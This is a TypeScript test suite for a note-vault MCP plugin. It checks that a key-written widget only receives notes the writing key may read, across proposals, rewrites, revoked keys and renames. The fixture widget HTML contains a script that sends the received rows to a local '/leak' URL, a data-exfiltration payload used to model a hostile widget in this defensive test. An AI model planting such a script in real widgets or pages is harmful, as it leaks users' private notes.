import { createHash } from 'node:crypto';
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import type VaultMcpPlugin from '../../../src/main';
import { runReviewCommand } from '../../../src/ui/review/review-commands';
import { vaultWidgetSource, WIDGET_BLOCK_LANGUAGE } from '../../../src/ui/widgets/widget-block';
import { WidgetStopped } from '../../../src/ui/widgets/widget-frame';
import { createHostElement } from '../../host/ui/dom';
import { HostPostProcessorContext } from '../../host/workspace/markdown-render-child';
import { connectClient } from '../../harness/boot-plugin';
import { copyToTemp, DEMO_VAULT } from '../../harness/temp-copy';
import { bootWriteEnvIn, call, callError, writeVaultFiles, type Json, type WriteEnv } from '../../harness/edits/write-helpers';

/**
 * Whose notes a widget shows (docs/widgets.md#whose-view-a-widget-shows), through the real routes:
 * widgets written with widget_write over HTTP by keys with roots and per-key `agent_overrides`
 * (directly and by an accepted proposal), then the data the `vault-mcp-widget` block gets for the
 * user's view (the source src/main.ts registers) and what the block shows when the writing key is gone.
 */

const QUERY = 'WHERE status exists SORT file.path COLUMNS status, secretfield LIMIT 1000';

/** The verifier's widget: a manifest over every note with a status, and a script that would send the rows away. */
function widgetHtml(name = 'Project board', query = QUERY): string {
  const manifest = JSON.stringify({ name, description: 'Open items', query });
  return (
    `<!doctype html><html><head><script type="application/json" id="vault-mcp-widget">${manifest}</script></head><body><script>` +
    "addEventListener('message',e=>{if(e.data&&e.data.type==='vault-mcp-widget-data')location.href='http://127.0.0.1:27877/leak?d='+" +
    'encodeURIComponent(JSON.stringify(e.data.result))})</script></body></html>'
  );
}

const NOTES = {
  'Secret/S1.md': '---\nstatus: open\nsecretfield: outside the roots\n---\nS1\n',
  'Projects/Hidden.md': '---\nstatus: open\nsecretfield: overridden\nagent_overrides:\n  KeyA: no-access\n---\nHidden from KeyA\n',
  'Projects/Open.md': '---\nstatus: open\nsecretfield: fine\n---\nOpen\n',
  'Projects/Mine.md': '---\nstatus: open\nsecretfield: private\naccess: private\n---\nPrivate\n',
  'Notes/board.md': 'The board:\n\n```vault-mcp-widget\nboard\n```\n',
};

const sha256 = (text: string): string => createHash('sha256').update(text, 'utf8').digest('hex');

type Rows = { columns: string[]; rows: unknown[][]; total: number };

describe("a widget's data is limited to what the key that wrote it may read", () => {
  let env: WriteEnv | null = null;

  afterEach(async () => {
    await env?.done();
    env = null;
  });

  /** Boots a force key "KeyA" (roots Projects, Widgets, unless `roots`) on a demo vault copy holding {@link NOTES}. */
  async function boot(options: { mode?: 'force' | 'propose'; roots?: string[]; configure?: (s: any) => void; dir?: string } = {}) {
    const dir = options.dir ?? (await copyToTemp(DEMO_VAULT)).dir;
    if (!options.dir) await writeVaultFiles(dir, NOTES);
    env = await bootWriteEnvIn(
      dir,
      { label: 'KeyA', mode: options.mode ?? 'force', roots: options.roots ?? ['Projects', 'Widgets'], configure: options.configure },
      () => fs.rm(dir, { recursive: true, force: true }),
    );
    await env.booted.app.metadataCache.whenResolved();
    return env;
  }

  const plugin = (): VaultMcpPlugin => env!.booted.plugin;
  /** The widget source as src/main.ts registers it for the code block. */
  const source = () => vaultWidgetSource(plugin().notes, plugin().widgetWriters);
  /** What a frame showing widget `id` gets: loaded as the block loads it, then its data, as the block's refresh asks. */
  const rowsOf = async (id: string): Promise<Rows> => {
    const loaded = await source().load(id);
    if ('error' in loaded) throw new WidgetStopped(loaded.error);
    if ('unconfirmed' in loaded) throw new WidgetStopped('unconfirmed');
    return (await source().run(QUERY, id, loaded.shown)) as Rows;
  };
  const paths = (r: Rows): unknown[] => r.rows.map((row) => row[0]);

  /** Renders a note's widget block through the plugin's registered code block processor; returns the block's text. */
  async function renderBlock(id: string): Promise<string> {
    const processor = (
      plugin() as unknown as { codeBlockProcessors: Map<string, (...a: unknown[]) => Promise<void>> }
    ).codeBlockProcessors.get(WIDGET_BLOCK_LANGUAGE)!;
    const el = createHostElement('div');
    await processor(`${id}\n`, el, new HostPostProcessorContext('Notes/board.md'));
    return (el as unknown as { getText(): string }).getText();
  }

  test("the verifier's widget by a force key gets only the notes KeyA may read: no note outside its roots, none it is overridden from", async () => {
    await boot();
    const written = await call(env!.client, 'widget_write', { id: 'board', html: widgetHtml() });
    expect(written).toMatchObject({ status: 'applied', path: 'Widgets/board.html' });
    // What KeyA itself gets from query_notes is exactly what its widget gets.
    const own = await call(env!.client, 'query_notes', { query: QUERY });
    const result = await rowsOf('board');
    expect(result.rows).toEqual(own.rows);
    expect(paths(result)).toContain('Projects/Open.md');
    expect(paths(result)).not.toContain('Secret/S1.md');
    expect(paths(result)).not.toContain('Projects/Hidden.md');
    expect(paths(result)).not.toContain('Projects/Mine.md');
    for (const p of paths(result)) expect(String(p)).toMatch(/^Projects\//);
    expect(JSON.stringify(result)).not.toMatch(/outside the roots|overridden/);
    // The block id matches the widget ignoring case, as widget_write does.
    expect(paths(await rowsOf('BOARD'))).not.toContain('Secret/S1.md');
    // The provenance is in the plugin's data, next to the keys.
    const hash = sha256(widgetHtml());
    expect(plugin().settings.widgetWriters).toEqual({
      board: { key_id: 'runkey', key_label: 'KeyA', written_at: expect.any(String), hash },
    });
    // And the text's own record, which follows the text wherever it is renamed.
    expect(plugin().settings.widgetTexts).toEqual({ [hash]: { key_id: 'runkey', key_label: 'KeyA', written_at: expect.any(String) } });
  });

  test("a widget the user wrote and no key ever wrote shows the user's view once confirmed; once a key replaces it, it gets that key's", async () => {
    const dir = (await copyToTemp(DEMO_VAULT)).dir;
    await writeVaultFiles(dir, { ...NOTES, 'Widgets/mine.html': widgetHtml('Mine') });
    await boot({ dir });
    // No record says who wrote it: no data until the user confirms that exact text.
    await expect(rowsOf('mine')).rejects.toThrow(new WidgetStopped('unconfirmed'));
    expect(await source().confirm('mine', sha256(widgetHtml('Mine')))).toBeNull();
    const user = await rowsOf('mine');
    expect(paths(user)).toEqual(expect.arrayContaining(['Secret/S1.md', 'Projects/Hidden.md', 'Projects/Open.md']));
    expect(paths(user)).not.toContain('Projects/Mine.md'); // access: private stays out even for the owner
    const [listed] = ((await call(env!.client, 'widget_list')).widgets as Json[]).filter((w) => w.id === 'mine');
    await call(env!.client, 'widget_write', { id: 'mine', html: widgetHtml('Mine v2'), expected_hash: listed!.hash });
    const keyed = await rowsOf('mine');
    expect(paths(keyed)).not.toContain('Secret/S1.md');
    expect(paths(keyed)).not.toContain('Projects/Hidden.md');
  });

  test("a propose key's widget, once the user accepts it, runs with that key's rights", async () => {
    await boot({ mode: 'propose' });
    const staged = await call(env!.client, 'widget_write', { id: 'board', html: widgetHtml() });
    expect(staged.status).toBe('pending');
    expect(await runReviewCommand(plugin(), `accept ${staged.proposal_id}`)).toMatch(/^Accepted/);
    const result = await rowsOf('board');
    expect(paths(result)).toContain('Projects/Open.md');
    expect(paths(result)).not.toContain('Secret/S1.md');
    expect(paths(result)).not.toContain('Projects/Hidden.md');
    expect(plugin().settings.widgetWriters.board).toMatchObject({ key_id: 'runkey', key_label: 'KeyA' });
  });

  test("the last key to write a widget decides: a widget another key rewrote gets the second key's rights", async () => {
    await boot({ roots: [] });
    await call(env!.client, 'widget_write', { id: 'board', html: widgetHtml() });
    expect(paths(await rowsOf('board'))).toContain('Secret/S1.md'); // KeyA has the whole vault
    const { record, token } = await plugin().keyRing.mint({ label: 'KeyB', mode: 'force', roots: ['Projects', 'Widgets'] });
    const other: Client = await connectClient(env!.booted.url, token);
    try {
      const [listed] = (await call(other, 'widget_list')).widgets as Json[];
      await call(other, 'widget_write', { id: 'board', html: widgetHtml('Board 2'), expected_hash: listed!.hash });
    } finally {
      await other.close();
    }
    expect(plugin().settings.widgetWriters.board).toMatchObject({ key_id: record.id, key_label: 'KeyB' });
    const result = await rowsOf('board');
    expect(paths(result)).not.toContain('Secret/S1.md');
    expect(paths(result)).toContain('Projects/Hidden.md'); // the override names KeyA, not KeyB
  });

  test('a widget whose writing key was deleted shows no data and says why in its place; a restart keeps the provenance', async () => {
    await boot();
    await call(env!.client, 'widget_write', { id: 'board', html: widgetHtml() });
    // Restart: the plugin's data (with widgetWriters) is read again by a new plugin on the same vault.
    const saved = JSON.parse(JSON.stringify(plugin().settings.widgetWriters));
    const dir = env!.dir;
    await env!.client.close();
    await env!.booted.stop();
    env = null;
    await boot({ dir, configure: (s) => (s.widgetWriters = saved) });
    expect(paths(await rowsOf('board'))).not.toContain('Secret/S1.md');
    // The key is deleted (another key first: the last local key cannot be revoked).
    await plugin().keyRing.mint({ label: 'Other', mode: 'propose' });
    await plugin().keyRing.revoke('runkey');
    const why =
      'Widget \'board\' was last written by the key "KeyA", which no longer exists, so it shows no data (a widget sees only ' +
      'what the key that wrote it may read with query_notes). Read the widget file; to show it with your own view, save a copy under a new id ' +
      'yourself (and confirm it there), or have another key rewrite it.';
    expect(await source().load('board')).toEqual({ error: why });
    await expect(source().run(QUERY, 'board', { hash: '', writer: null })).rejects.toThrow(new WidgetStopped(why));
    expect(await renderBlock('board')).toBe(`Vault MCP widget: ${why}`);
  });

  test("a writer entry whose key cannot be found (damaged data) shows no data rather than the user's view", async () => {
    const dir = (await copyToTemp(DEMO_VAULT)).dir;
    await writeVaultFiles(dir, { ...NOTES, 'Widgets/board.html': widgetHtml() });
    await boot({ dir, configure: (s) => (s.widgetWriters = { BOARD: 'garbage' }) });
    expect(plugin().settings.widgetWriters).toEqual({ board: { key_id: '', key_label: '', written_at: expect.any(String) } });
    expect(await source().load('board')).toEqual({
      error: expect.stringMatching(/^Widget 'board' has no known writer \(its record is damaged/),
    });
    await expect(source().run(QUERY, 'board', { hash: '', writer: null })).rejects.toBeInstanceOf(WidgetStopped);
    // A key whose saved roots break the roots rule (refused at the door) gives no data either.
    await plugin().keyRing.mint({ label: 'Other', mode: 'force' });
    plugin().settings.keys = plugin().settings.keys.map((k) => (k.id === 'runkey' ? { ...k, roots: ['../outside'] } : k));
    plugin().settings.widgetWriters.board = { key_id: 'runkey', key_label: 'KeyA', written_at: '2026-12-06T00:00:00.000Z' };
    expect(await renderBlock('board')).toMatch(
      /^Vault MCP widget: Widget 'board' was last written by the key "KeyA", whose folders cannot be read/,
    );
  });

  test("a key's widget renamed by the user keeps the key's rights under its new id", async () => {
    await boot();
    await call(env!.client, 'widget_write', { id: 'board', html: widgetHtml() });
    const file = env!.booted.app.vault.getFileByPath('Widgets/board.html')!;
    await env!.booted.app.fileManager.renameFile(file, 'Widgets/Team-Board.html');
    const result = await rowsOf('team-board');
    expect(paths(result)).toContain('Projects/Open.md');
    expect(paths(result)).not.toContain('Secret/S1.md');
    expect(paths(result)).not.toContain('Projects/Hidden.md');
    expect(plugin().settings.widgetWriters['team-board']).toMatchObject({ key_id: 'runkey', key_label: 'KeyA' });
  });

  test('a key narrowed after writing narrows its widget at the next refresh', async () => {
    await boot({ roots: [] });
    await call(env!.client, 'widget_write', { id: 'board', html: widgetHtml() });
    expect(paths(await rowsOf('board'))).toContain('Secret/S1.md');
    await plugin().keyRing.setRoots('runkey', ['Projects']);
    expect(paths(await rowsOf('board'))).not.toContain('Secret/S1.md');
  });

  test('a write whose provenance cannot be saved writes no widget', async () => {
    await boot();
    const original = plugin().saveSettings.bind(plugin());
    plugin().saveSettings = async () => {
      throw new Error('disk full');
    };
    try {
      expect(await callError(env!.client, 'widget_write', { id: 'board', html: widgetHtml() })).toBe(
        "Widget 'board' was not written: the plugin could not save which key wrote it (disk full); try again later.",
      );
    } finally {
      plugin().saveSettings = original;
    }
    await expect(fs.access(path.join(env!.dir, 'Widgets/board.html'))).rejects.toThrow();
  });
});
